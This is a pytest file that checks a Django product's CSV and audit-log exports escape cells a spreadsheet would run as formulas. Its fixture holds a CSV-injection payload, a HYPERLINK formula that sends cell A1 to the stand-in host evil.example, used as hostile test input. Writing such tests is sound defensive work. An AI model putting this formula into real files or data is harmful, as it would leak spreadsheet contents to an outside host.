"""Every CSV the product writes neutralises cells a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from clouddigit.csvfile import neutralise
from clouddigit.errors import InvalidRequest
from iam.services import grant_role
from snapshots import services as snapshot_services

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("db-01", "db-01"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell, written):
    assert neutralise(cell) == written


def _rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode())))


@pytest.fixture
def hostile_entries(django_user_model, alice, prod, data_volume):
    """A user whose name starts with `@` takes a snapshot, and tries one named as a formula (the name
    rule refuses it; the refusal is audited with the name in its message)."""
    django_user_model.objects.create_user("@mallory")
    grant_role(actor=None, role="snapshot.operator", account=prod.account, project=prod, username="@mallory")
    mallory = django_user_model.objects.get(username="@mallory")
    snapshot_services.create_snapshot(actor=mallory, volume=data_volume, name="mallory-snap")
    with pytest.raises(InvalidRequest):
        snapshot_services.create_snapshot(actor=mallory, volume=data_volume, name=FORMULA)


def _assert_neutralised(rows: list[dict]) -> None:
    taken = [row for row in rows if row["action"] == "snapshot.create"]
    assert taken, rows
    assert {row["actor"] for row in taken} == {"'@mallory"}
    assert {row["outcome"] for row in taken} == {"success", "refused"}
    assert any("HYPERLINK" in row["message"] for row in taken)
    for row in rows:
        for cell in row.values():
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_console_audit_export_neutralises_formulas(client, alice, hostile_entries):
    client.force_login(alice)
    response = client.get(reverse("audit:export"))
    assert response.status_code == 200
    _assert_neutralised(_rows(b"".join(response.streaming_content)))


def test_api_audit_export_neutralises_formulas(alice, hostile_entries):
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=alice).key}")
    response = api.get("/api/v1/audit/entries/export/")
    assert response.status_code == 200
    _assert_neutralised(_rows(b"".join(response.streaming_content)))
